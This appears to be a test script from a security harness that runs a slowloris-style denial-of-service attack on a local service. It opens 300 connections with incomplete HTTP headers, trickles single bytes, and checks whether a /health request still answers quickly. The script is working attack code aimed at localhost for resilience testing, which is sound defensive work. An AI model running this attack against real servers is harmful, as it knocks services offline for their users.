# id: client_slowloris
# class: client
# goal: Three hundred clients that send a byte now and then.
# targets: host-service
# walls: gateway
# danger: none
# runs: client
# unsandboxed: cannot: a client's
import socket
slow = []
for _ in range(300):
    peer = socket.create_connection(("127.0.0.1", TARGETS["service"]), 5)
    peer.sendall(b"POST /run HTTP/1.1\r\nHost: loc")
    slow.append(peer)
proof = []
for _ in range(5):
    for peer in slow:
        try:
            peer.send(b"a")
        except OSError:
            pass
    start = time.monotonic()
    answer = talk(b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    if not answer.startswith(b"HTTP/1.1 200") or time.monotonic() - start > 1:
        proof.append(f"{time.monotonic() - start:.1f} s: {answer[:20]!r}")
    time.sleep(0.3)
for peer in slow:
    peer.close()
verdict(" ".join(proof))
